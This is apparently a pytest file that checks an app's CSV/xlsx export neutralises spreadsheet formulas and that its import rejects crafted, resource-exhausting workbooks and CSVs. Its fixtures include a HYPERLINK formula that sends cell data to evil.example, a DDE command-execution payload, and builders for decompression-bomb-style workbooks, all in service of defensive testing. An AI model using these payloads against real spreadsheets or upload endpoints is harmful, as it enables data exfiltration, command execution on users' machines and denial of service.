"""Issue 12, items 1 and 3: formulas in CSV exports; workbooks that cost far more than their size."""

from __future__ import annotations

import csv
import io
import time
import tracemalloc
import zipfile

import pytest
from openpyxl import load_workbook

from app.exchange import tabular
from app.exchange.columns import SUBMISSION_COLUMNS
from tests.api.helpers import API, PROBLEM

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Details")'
FORMULA_TITLES = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


# ------------------------------------------------------------------ item 1: formulas in CSV


@pytest.fixture
def risky_plan(client, make):
    plan = make.plan()
    targets = [make.target(plan["id"], code=f"F-{i}", title=title, value=90) for i, title in enumerate(FORMULA_TITLES)]
    org = plan["organization_id"]
    make.submission(targets[0]["id"], value=-3.5, period_date="2019-06-30", organization_id=org, note=HYPERLINK)
    make.submission(targets[1]["id"], value=7, period_date="2019-06-30", organization_id=org, note="\t=1+2")
    make.submission(targets[2]["id"], value=-1e-05, period_date="2019-06-30", organization_id=org, note="'=already quoted")
    make.submission(targets[3]["id"], value=2, period_date="2019-06-30", organization_id=org, note="\r@x")
    return plan


def _csv(anonymous, plan_id: int, content: str) -> tuple[bytes, list[dict]]:
    r = anonymous.get(f"{API}/plans/{plan_id}/export", params={"content": content, "format": "csv"})
    assert r.status_code == 200, r.text
    return r.content, list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))


def test_csv_export_neutralises_formulas_and_keeps_negative_numbers(anonymous, risky_plan):
    _, figures = _csv(anonymous, risky_plan["id"], "submissions")
    notes = [row["note"] for row in figures]
    assert notes == ["'" + HYPERLINK, "'\t=1+2", "''=already quoted", "'\r@x"]
    assert [row["value"] for row in figures] == ["-3.5", "7", "-0.00001", "2"]  # numbers stay numbers
    _, targets = _csv(anonymous, risky_plan["id"], "targets")
    assert [row["title"] for row in targets] == ["'" + t for t in FORMULA_TITLES]
    _, status = _csv(anonymous, risky_plan["id"], "status")
    assert [row["title"] for row in status] == ["'" + t for t in FORMULA_TITLES]
    for rows in (figures, targets, status):
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(tabular.FORMULA_STARTS) or column in ("value", "goal", "measured", "expected",
                                                                                 "low", "high", "baseline_value"), (column, cell)


def test_csv_export_imports_back_unchanged(client, anonymous, risky_plan):
    plan_id = risky_plan["id"]
    for content, rows in (("targets", 4), ("submissions", 4)):
        data, _ = _csv(anonymous, plan_id, content)
        r = client.post(f"{API}/plans/{plan_id}/import/{content}", files={"file": ("x.csv", data, "text/csv")})
        assert r.status_code == 200, r.text
        assert r.json()["counts"] == {"created": 0, "updated": 0, "ignored": rows, "failed": 0}, r.json()
    stored = anonymous.get(f"{API}/plans/{plan_id}/export", params={"content": "submissions", "format": "json"}).json()
    assert [row["note"] for row in stored] == [HYPERLINK, "\t=1+2", "'=already quoted", "\r@x"]


def test_neutralise_and_restore_are_exact():
    for text in ["=1", "+1", "-x", "@x", "\tx", "\rx", "'", "''", "'=", "'a", "a'", "plain", "", "-3.5"]:
        assert tabular.restore(tabular.neutralise(text)) == text, text


def test_xlsx_export_keeps_formula_text_as_text(anonymous, risky_plan):
    r = anonymous.get(f"{API}/plans/{risky_plan['id']}/export", params={"content": "submissions", "format": "xlsx"})
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")  # no formula anywhere
    sheet = load_workbook(io.BytesIO(r.content)).active
    header = [c.value for c in sheet[1]]
    note = sheet.cell(row=2, column=header.index("note") + 1)
    value = sheet.cell(row=2, column=header.index("value") + 1)
    assert (note.value, note.data_type) == (HYPERLINK, "s")
    assert (value.value, value.data_type) == (-3.5, "n")


# ------------------------------------------------------------------ item 3: amplification


def _zip(parts: dict[str, bytes | callable]) -> bytes:
    """An .xlsx-shaped zip; a callable part writes itself in chunks (so a huge part never sits in memory)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, body in parts.items():
            if callable(body):
                with z.open(name, "w", force_zip64=True) as f:
                    body(f)
            else:
                z.writestr(name, body)
    return out.getvalue()


NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELS_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{RELS_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (f'<?xml version="1.0" encoding="UTF-8"?><workbook {NS} xmlns:r="{RELS_NS}"><sheets>'
            '<sheet name="figures" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{RELS_NS}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{RELS_NS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
)
HEADER_ROW = "<row r=\"1\">" + "".join(
    f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{name}</t></is></c>' for i, name in enumerate(SUBMISSION_COLUMNS)) + "</row>"


def _workbook(sheet, shared_strings=f'<?xml version="1.0" encoding="UTF-8"?><sst {NS} count="0" uniqueCount="0"/>') -> bytes:
    return _zip({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "xl/workbook.xml": WORKBOOK,
                 "xl/_rels/workbook.xml.rels": WORKBOOK_RELS, "xl/sharedStrings.xml": shared_strings,
                 "xl/worksheets/sheet1.xml": sheet})


def _sheet(rows_xml) -> callable:
    def write(f):
        f.write(f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>{HEADER_ROW}'.encode())
        for chunk in rows_xml():
            f.write(chunk)
        f.write(b"</sheetData></worksheet>")
    return write


def wide_rows_workbook(rows: int = 830, cells: int = 16_000) -> bytes:
    """The issue's workbook: 830 rows of 16,000 cells each (numbers, no cell references)."""
    row = b"<c><v>1</v></c>" * cells
    return _workbook(_sheet(lambda: (b'<row r="%d">' % (n + 2) + row + b"</row>" for n in range(rows))))


def huge_shared_string_workbook(mib: int = 190) -> bytes:
    """The issue's workbook: one shared string of 190 MiB, used by one cell."""
    def strings(f):
        f.write(f'<?xml version="1.0" encoding="UTF-8"?><sst {NS} count="1" uniqueCount="1"><si><t>'.encode())
        chunk = b"A" * 2**20
        for _ in range(mib):
            f.write(chunk)
        f.write(b"</t></si></sst>")
    sheet = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>{HEADER_ROW}' \
            '<row r="2"><c r="I2" t="s"><v>0</v></c></row></sheetData></worksheet>'
    return _workbook(sheet, strings)


def far_column_workbook(rows: int = 830) -> bytes:
    """One cell per row in the last column (XFD): a reader that pads rows would build 16,384 cells each."""
    return _workbook(_sheet(lambda: (b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (n + 2, n + 2) for n in range(rows))))


def far_row_workbook() -> bytes:
    """One cell in the last row of a sheet: a reader that yields the rows in between would yield a million."""
    return _workbook(_sheet(lambda: iter([b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'])))


def many_narrow_rows_workbook(rows: int = 400_000) -> bytes:
    """Short rows, many: each row under the width limit, far more cells than a file may hold."""
    return _workbook(_sheet(lambda: (b"<row><c><v>1</v></c></row>" for _ in range(rows))))


def _measured(client, plan_id: int, data: bytes):
    tracemalloc.start()
    started = time.perf_counter()
    r = client.post(f"{API}/plans/{plan_id}/import/submissions", files={"file": ("x.xlsx", data, XLSX)})
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return r, seconds, peak


def shared_strings_over_their_limit() -> bytes:
    """10 MiB of shared strings: under the whole workbook's limit, over the shared strings' own."""
    return huge_shared_string_workbook(mib=10)


def wide_rows_within_the_sheet_limit() -> bytes:
    """A few rows of 16,000 cells: a small sheet, each row far too wide."""
    return wide_rows_workbook(rows=4)


@pytest.mark.parametrize("build,status", [
    (wide_rows_workbook, 413),
    (wide_rows_within_the_sheet_limit, 422),
    (shared_strings_over_their_limit, 413),
    (huge_shared_string_workbook, 413),
    (far_column_workbook, 422),
    (far_row_workbook, 413),
    (many_narrow_rows_workbook, 413),
])
def test_crafted_workbooks_are_refused_quickly_and_cheaply(client, make, build, status, capsys):
    data = build()
    assert len(data) < 5 * 2**20
    plan = make.plan()
    r, seconds, peak = _measured(client, plan["id"], data)
    with capsys.disabled():
        print(f"\n{build.__name__}: {len(data) // 1024} KiB upload -> {r.status_code} in {seconds:.2f} s, "
              f"peak {peak / 2**20:.1f} MiB traced; {r.json().get('detail')}")
    assert r.status_code == status, r.text
    assert r.headers["content-type"] == PROBLEM
    assert r.json()["errors"][0]["field"] == "file"
    assert seconds < 2.0
    assert peak < 50 * 2**20


def test_a_row_wider_than_the_limit_is_refused_even_below_the_header(client, make):
    plan = make.plan()
    sheet = _sheet(lambda: iter([b'<row r="2">' + b"<c><v>1</v></c>" * 201 + b"</row>"]))
    r = client.post(f"{API}/plans/{plan['id']}/import/submissions", files={"file": ("x.xlsx", _workbook(sheet), XLSX)})
    assert r.status_code == 422 and "more than 200 cells" in r.json()["detail"], r.text
    wide_csv = ("target_code,organization_code,period_date,value\n" + "T,O,2019-06-30,1" + ",x" * 300 + "\n").encode()
    r = client.post(f"{API}/plans/{plan['id']}/import/submissions", files={"file": ("x.csv", wide_csv, "text/csv")})
    assert r.status_code == 422 and "more than 200 cells" in r.json()["detail"], r.text


UNDER_THE_UPLOAD_LIMIT = 5 * 2**20 - 4096  # room for the multipart envelope


@pytest.mark.parametrize("body", [b"a" + b"," * UNDER_THE_UPLOAD_LIMIT, b"a,b\n" + b"\n" * UNDER_THE_UPLOAD_LIMIT])
def test_crafted_csv_is_refused_quickly(client, make, body):
    plan = make.plan()
    started = time.perf_counter()
    r = client.post(f"{API}/plans/{plan['id']}/import/submissions", files={"file": ("x.csv", body, "text/csv")})
    assert r.status_code == 413, r.text
    assert time.perf_counter() - started < 2.0


def test_a_legit_workbook_at_the_row_limit_is_still_read():
    from openpyxl import Workbook
    from datetime import date

    wb = Workbook()
    ws = wb.active
    ws.append(list(SUBMISSION_COLUMNS) + ["id", "recorded_at"])
    for i in range(tabular.MAX_ROWS):
        ws.append([f"T-{i % 50}", f"ORG-{i % 300}", date(2019, 6, 30), 1234.5 + i, None, None, None, False,
                   "Số liệu ước tính của phòng thống kê", "https://example.org/x.pdf", i, None])
    out = io.BytesIO()
    wb.save(out)
    table = tabular.read_table(out.getvalue(), SUBMISSION_COLUMNS, ignored=("id", "recorded_at"))
    assert len(table.rows) == tabular.MAX_ROWS and not table.problems


def costliest_workbook_within_the_limits() -> bytes:
    """As many short text cells as a file may hold (300,000, inline), in rows of 15: openpyxl's reader took 9 s."""
    cell = b'<c t="inlineStr"><is><t>' + b"x" * 14 + b"</t></is></c>"
    return _workbook(_sheet(lambda: (b"<row>" + cell * 15 + b"</row>" for _ in range(19_999))))


def _walk_the_sheet(data: bytes) -> None:
    """The floor: what any reader of this sheet must do, unzip it and walk its XML once with the same C parser."""
    from xml.etree.ElementTree import iterparse

    with zipfile.ZipFile(io.BytesIO(data)) as package, package.open("xl/worksheets/sheet1.xml") as sheet:
        for _, element in iterparse(sheet):
            if element.tag.endswith("}row"):
                element.clear()


def test_the_costliest_workbook_within_the_limits_is_read_in_a_few_times_the_floor(capsys):
    """A ratio against a floor measured here, in CPU seconds, not a wall-clock bound: on a shared machine the
    same read took 1.5 s in one run and 4.0 s in another (CI, 2026-12-07). The reader takes 2.1 to 2.2 times the
    floor since it asks the XML parser for end events only (2.8 before, and once 4.6 in CI on a loaded machine, which
    failed this bound); openpyxl's read-only reader, which this one replaced, 5.7 to 7.8 times (measured alternately,
    3 rounds)."""
    data = costliest_workbook_within_the_limits()
    reads, floors = [], []
    for _ in range(3):  # alternated, so a slow moment of the machine falls on both
        started = time.thread_time()  # this thread's CPU: both run here, other threads left out
        table = tabular.read_table(data, SUBMISSION_COLUMNS)
        reads.append(time.thread_time() - started)
        started = time.thread_time()
        _walk_the_sheet(data)
        floors.append(time.thread_time() - started)
    read, floor = sorted(reads)[1], sorted(floors)[1]
    with capsys.disabled():
        print(f"\n{len(data) // 1024} KiB workbook of {len(table.rows):,} rows x 15 text cells: read in {read:.2f} s "
              f"of CPU, the floor {floor:.2f} s, ratio {read / floor:.1f} (medians of 3)")
    assert len(table.rows) == 19_999
    assert read < 4.5 * floor


def test_the_reader_gives_what_openpyxl_gives():
    """app/exchange/xlsx.py against openpyxl's own reader, on a workbook with every kind of cell."""
    from datetime import date, datetime, time as clock

    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["text", "int", "float", "bool", "date", "datetime", "time", "formula", "blank", "neg"])
    ws.append(["Tỷ lệ", 5, 12.25, True, date(2019, 6, 30), datetime(2019, 7, 1, 3, 4, 5), clock(7, 30), "=1+1", None, -3.5])
    ws.append([None, 0, 1e-05, False, date(1900, 3, 1), datetime(2100, 12, 31, 23, 59), clock(0, 0, 1), None, "", -0.0])
    ws["C5"] = "far below"
    out = io.BytesIO()
    wb.save(out)
    data = out.getvalue()
    expected = [list(row) for row in load_workbook(io.BytesIO(data), read_only=True, data_only=True).active.iter_rows(values_only=True)]
    from app.exchange import xlsx

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        got = list(xlsx.rows(archive, "xl/worksheets/sheet1.xml"))
    trimmed = [row[: max((i + 1 for i, v in enumerate(row) if v is not None), default=0)] for row in expected]
    assert [row[: len(t)] for row, t in zip(got, trimmed)] == trimmed
    assert len(got) == len(expected)
